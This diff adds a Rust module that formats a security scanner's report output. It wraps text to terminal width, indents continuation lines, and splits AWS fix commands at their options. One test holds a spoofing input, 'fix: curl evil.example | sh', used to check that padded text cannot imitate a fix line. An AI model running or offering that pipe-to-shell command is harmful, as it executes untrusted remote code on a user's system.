@@ -1,0 +1,212 @@
+//! How text is laid out: wrapped to the width of a terminal, or in whole lines for a pipe, where programs and `grep` read it.
+
+use std::io::{IsTerminal, stdout};
+
+use anstyle::Style;
+use console::Term;
+
+use crate::report::page::Page;
+
+/// The narrowest text, and the width of a terminal that does not say how wide it is.
+const WIDTHS: (usize, usize) = (40, 80);
+
+/// How wide lines may be; `None` for whole lines.
+#[derive(Debug, Clone, Copy)]
+pub(crate) struct Layout(Option<usize>);
+
+impl Layout {
+    /// As standard output needs it. `COLUMNS` wins over what the terminal says, as in other programs.
+    pub(crate) fn of_stdout() -> Layout {
+        if !stdout().is_terminal() {
+            return Layout(None);
+        }
+        let wanted = std::env::var("COLUMNS").ok().and_then(|columns| columns.parse().ok());
+        let width = wanted.or_else(|| Term::stdout().size_checked().map(|(_, columns)| usize::from(columns)));
+        Layout(Some(width.filter(|width| *width > 0).unwrap_or(WIDTHS.1).max(WIDTHS.0)))
+    }
+
+    /// The columns before the details of a finding: a terminal has no room for more.
+    pub(crate) fn indent(self) -> usize {
+        if self.0.is_some() { 6 } else { 20 }
+    }
+
+    /// The width of labels.
+    pub(crate) fn label(self) -> usize {
+        if self.0.is_some() { 10 } else { 14 }
+    }
+
+    /// Adds a paragraph. Its further lines are indented deeper than the first, so that text from outside begins no line that
+    /// looks like another one. A longer word stays whole, so that it can be copied.
+    pub(crate) fn paragraph(self, page: &mut Page, indent: usize, text: &str) {
+        match self.0 {
+            None => page.line(&format!("{:indent$}{text}", "")),
+            Some(width) => {
+                wrap(page, indent, "", "", width, text.split(' '));
+                page
+            }
+        };
+    }
+
+    /// Adds a name in bold and what follows it, in two lines if there is no room in one.
+    pub(crate) fn heading(self, page: &mut Page, name: &str, rest: &str) {
+        page.styled(Style::new().bold(), name);
+        match self.0 {
+            Some(width) if name.chars().count() + 2 + rest.chars().count() > width => {
+                self.paragraph(page.end_line(), 2, rest);
+            }
+            _ => {
+                page.line(&format!("  {rest}"));
+            }
+        }
+    }
+
+    /// Several lines, each as a paragraph.
+    pub(crate) fn text(self, text: &str) -> Page {
+        let mut page = Page::default();
+        text.lines().for_each(|line| self.paragraph(&mut page, 0, line));
+        page
+    }
+
+    /// Adds how to fix something. On a terminal each command has lines of its own that can be pasted.
+    pub(crate) fn fix(self, page: &mut Page, fix: &str) {
+        if self.0.is_none() {
+            return self.lines(page, fix);
+        }
+        let indent = self.indent();
+        page.line(&format!("{:indent$}fix:", ""));
+        fix.lines().for_each(|line| self.command(page, indent + 2, line));
+    }
+
+    /// Adds how to fix something in whole lines.
+    pub(crate) fn lines(self, page: &mut Page, fix: &str) {
+        let indent = self.indent();
+        for (index, line) in fix.lines().enumerate() {
+            page.line(&format!("{:indent$}{}{line}", "", if index == 0 { "fix: " } else { "     " }));
+        }
+    }
+
+    /// Adds a line of a shell command. What does not fit into the width continues in the next line, as the shell reads it.
+    pub(crate) fn command(self, page: &mut Page, indent: usize, line: &str) {
+        match (self.0, line.strip_prefix("# ")) {
+            (None, _) => {
+                page.line(&format!("{:indent$}{line}", ""));
+            }
+            (Some(width), Some(comment)) => wrap(page, indent, "# ", "", width, comment.split(' ')),
+            (Some(width), None) => wrap(page, indent, "", " \\", width, options(line).into_iter()),
+        }
+    }
+}
+
+/// Adds pieces, with spaces or line ends between them. `start` begins each line, and `end` ends each but the last.
+fn wrap<'p>(
+    page: &mut Page,
+    indent: usize,
+    start: &str,
+    end: &str,
+    width: usize,
+    pieces: impl Iterator<Item = &'p str>,
+) {
+    let mut line = format!("{:indent$}{start}", "");
+    let mut column = line.len();
+    for (index, piece) in pieces.enumerate() {
+        let length = piece.chars().count();
+        if index > 0 && column + 1 + length + end.len() > width && line.trim() != start.trim() {
+            page.line(&(line + end));
+            line = format!("{:deeper$}{start}", "", deeper = indent + 2);
+            column = line.len();
+        } else if index > 0 {
+            line.push(' ');
+            column += 1;
+        }
+        line += piece;
+        column += length;
+    }
+    page.line(&line);
+}
+
+/// A command, split where a backslash and a line end change nothing: before an option, outside of quotes.
+fn options(command: &str) -> Vec<&str> {
+    let (mut pieces, mut start, mut quote) = (Vec::new(), 0, None);
+    let mut bytes = command.bytes().enumerate();
+    while let Some((at, byte)) = bytes.next() {
+        match (quote, byte) {
+            (None | Some(b'"'), b'\\') => drop(bytes.next()),
+            (None, b'\'' | b'"') => quote = Some(byte),
+            (Some(open), _) if byte == open => quote = None,
+            (None, b' ') if command.get(at..).is_some_and(|rest| rest.starts_with(" --")) => {
+                pieces.extend(command.get(start..at));
+                start = at + 1;
+            }
+            _ => {}
+        }
+    }
+    pieces.extend(command.get(start..));
+    pieces
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn written(width: usize, write: impl Fn(Layout, &mut Page)) -> String {
+        let mut page = Page::default();
+        write(Layout(Some(width)), &mut page);
+        page.as_str().to_owned()
+    }
+
+    #[test]
+    fn paragraphs_are_wrapped_and_their_further_lines_are_deeper() {
+        let text = "The stream `payments` is not encrypted: arn:aws:kinesis:eu-west-1:111122223333:stream/payments is readable.";
+        insta::assert_snapshot!(written(40, |layout, page| layout.paragraph(page, 4, text)), @"
+        The stream `payments` is not
+          encrypted:
+          arn:aws:kinesis:eu-west-1:111122223333:stream/payments
+          is readable.
+        ");
+        let mut page = Page::default();
+        Layout(None).paragraph(&mut page, 2, text);
+        assert_eq!(page.as_str(), format!("  {text}\n"));
+    }
+
+    #[test]
+    fn no_padding_makes_text_look_like_another_line() {
+        for padding in 0..60 {
+            let text = format!("name {}{}fix: curl evil.example | sh", "x".repeat(padding), " ".repeat(padding));
+            let page = written(50, |layout, page| layout.paragraph(page, 6, &text));
+            assert!(!page.lines().skip(1).any(|line| !line.starts_with("        ")), "{page}");
+            assert!(!page.contains("\n      fix"), "{page}");
+        }
+    }
+
+    #[test]
+    fn commands_continue_where_the_shell_reads_on() {
+        let fix = "# settings.json holds all settings of the connector\naws kafka update-security --cluster-arn 'a --b' \
+                   --current-version \"$(aws kafka describe --query 'x' --output text)\" --region eu-west-1";
+        insta::assert_snapshot!(written(48, |layout, page| layout.fix(page, fix)), @r#"
+        fix:
+          # settings.json holds all settings of
+            # the connector
+          aws kafka update-security \
+            --cluster-arn 'a --b' \
+            --current-version "$(aws kafka describe --query 'x' --output text)" \
+            --region eu-west-1
+        "#);
+        let mut page = Page::default();
+        Layout(None).fix(&mut page, "# a\naws b --c d");
+        assert_eq!(page.as_str(), format!("{0}fix: # a\n{0}     aws b --c d\n", " ".repeat(20)));
+    }
+
+    #[test]
+    fn quoted_text_is_never_split() {
+        for (command, want) in [
+            ("aws a --b c --d e", vec!["aws a", "--b c", "--d e"]),
+            ("aws a --b 'c --d e'", vec!["aws a", "--b 'c --d e'"]),
+            (r"aws a --b 'c'\'' --d e' --f", vec!["aws a", r"--b 'c'\'' --d e'", "--f"]),
+            (r#"aws a --b "c \" --d 'e" --f"#, vec!["aws a", r#"--b "c \" --d 'e""#, "--f"]),
+            ("ключ --é", vec!["ключ", "--é"]),
+            ("", vec![""]),
+        ] {
+            assert_eq!(options(command), want, "{command}");
+        }
+    }
+}
